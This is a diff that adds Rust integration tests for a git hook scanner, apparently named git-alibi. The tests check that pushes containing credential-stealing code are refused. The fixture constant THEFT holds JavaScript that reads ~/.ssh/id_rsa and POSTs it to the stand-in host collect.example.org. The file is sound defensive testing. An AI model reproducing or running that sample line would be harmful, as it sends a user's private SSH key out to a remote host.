@@ -1,0 +1,122 @@
+//! The hooks, on real pushes between local repositories. They need the `git` program.
+
+#![allow(clippy::unwrap_used)] // helpers of tests are not marked as tests
+#![allow(clippy::print_stderr)] // what did not run is said
+#![cfg(unix)]
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::{Command, Output};
+use tempfile::TempDir;
+
+const CLEAN: &str = "start();\n";
+const THEFT: &str = "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nconst req = https.request({ host: 'collect.example.org', method: 'POST' });\nreq.end(key);\n";
+
+fn git(folder: &Path, words: &[&str]) -> Output {
+    Command::new("git")
+        .current_dir(folder)
+        .args(["-c", "user.name=Ben Example", "-c", "user.email=ben@example.org", "-c", "init.defaultBranch=main"])
+        .args(words)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env(
+            "PATH",
+            format!(
+                "{}:{}",
+                Path::new(env!("CARGO_BIN_EXE_git-alibi")).parent().unwrap().display(),
+                std::env::var("PATH").unwrap()
+            ),
+        )
+        .output()
+        .unwrap()
+}
+
+fn did(folder: &Path, words: &[&str]) {
+    let out = git(folder, words);
+    assert!(out.status.success(), "{words:?}: {}", String::from_utf8_lossy(&out.stderr));
+}
+
+fn commit(folder: &Path, file: &str, text: &str) {
+    std::fs::write(folder.join(file), text).unwrap();
+    did(folder, &["add", "."]);
+    did(folder, &["commit", "--quiet", "--message", file]);
+}
+
+/// A server with a hook, and a clone of it that has pushed something clean.
+fn server(hook: &str, name: &str, in_clone: bool) -> Option<(TempDir, std::path::PathBuf)> {
+    if Command::new("git").arg("--version").output().is_err() {
+        assert!(std::env::var_os("CI").is_none(), "no git: under CI the hooks must be tested");
+        eprintln!("\n*** NOT RUN: there is no git here, so that the hooks were not tested ***\n");
+        return None;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    did(folder.path(), &["init", "--quiet", "--bare", "server.git"]);
+    did(folder.path(), &["init", "--quiet", "work"]);
+    let work = folder.path().join("work");
+    did(&work, &["remote", "add", "origin", "../server.git"]);
+    let hooks = if in_clone { work.join(".git/hooks") } else { folder.path().join("server.git/hooks") };
+    std::fs::create_dir_all(&hooks).unwrap();
+    let file = hooks.join(name);
+    std::fs::copy(Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/ci").join(hook), &file).unwrap();
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
+    commit(&work, "app.js", CLEAN);
+    did(&work, &["push", "--quiet", "origin", "main"]);
+    Some((folder, work))
+}
+
+fn refused(work: &Path, words: &[&str]) -> String {
+    let out = git(work, words);
+    let said = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(!out.status.success(), "{words:?} went through: {said}");
+    said
+}
+
+#[test]
+fn a_server_takes_what_is_clean_and_refuses_a_theft_however_it_comes() {
+    let Some((folder, work)) = server("pre-receive", "pre-receive", false) else { return };
+    commit(&work, "b.js", "more();\n");
+    did(&work, &["push", "--quiet", "origin", "main"]);
+    did(&work, &["switch", "--quiet", "--create", "idea"]);
+    commit(&work, "c.js", "idea();\n");
+    did(&work, &["push", "--quiet", "origin", "idea"]);
+    commit(&work, "report.js", THEFT);
+    let said = refused(&work, &["push", "--quiet", "origin", "idea"]);
+    for part in ["report.js:1", "credential-read-egress", "refused"] {
+        assert!(said.contains(part), "{part} is missing: {said}");
+    }
+    // As a new branch, by force, and as the first push to an empty server.
+    assert!(refused(&work, &["push", "--quiet", "origin", "idea:other"]).contains("report.js:1"));
+    did(&work, &["commit", "--quiet", "--amend", "--message", "Again"]);
+    assert!(refused(&work, &["push", "--quiet", "--force", "origin", "idea"]).contains("report.js:1"));
+    did(&work, &["push", "--quiet", "origin", "--delete", "idea"]);
+    let heads = git(&folder.path().join("server.git"), &["for-each-ref", "--format=%(refname)"]);
+    assert_eq!(String::from_utf8_lossy(&heads.stdout), "refs/heads/main\n", "nothing of it arrived");
+    let log = git(&folder.path().join("server.git"), &["log", "--format=%s", "main"]);
+    assert_eq!(String::from_utf8_lossy(&log.stdout), "b.js\napp.js\n");
+}
+
+#[test]
+fn a_server_refuses_a_theft_that_excuses_itself() {
+    let Some((_folder, work)) = server("pre-receive", "pre-receive", false) else { return };
+    commit(&work, "report.js", &format!("// git-alibi: ignore[credential-read-egress] fine\n{THEFT}"));
+    assert!(refused(&work, &["push", "--quiet", "origin", "main"]).contains("cannot ignore itself"));
+}
+
+#[test]
+fn the_first_push_of_all_is_judged_whole() {
+    let Some((_folder, work)) = server("pre-receive", "pre-receive", false) else { return };
+    did(&work, &["switch", "--quiet", "--orphan", "fresh"]);
+    commit(&work, "report.js", THEFT);
+    let said = refused(&work, &["push", "--quiet", "origin", "fresh"]);
+    assert!(said.contains("nothing in common") && said.contains("report.js:1"), "{said}");
+}
+
+#[test]
+fn a_developer_is_stopped_before_a_theft_leaves() {
+    let Some((_folder, work)) = server("pre-push.sh", "pre-push", true) else { return };
+    commit(&work, "report.js", THEFT);
+    let out = git(&work, &["push", "origin", "main"]);
+    assert!(!out.status.success());
+    let told = String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
+    assert!(told.contains("report.js:1"), "{told}");
+}
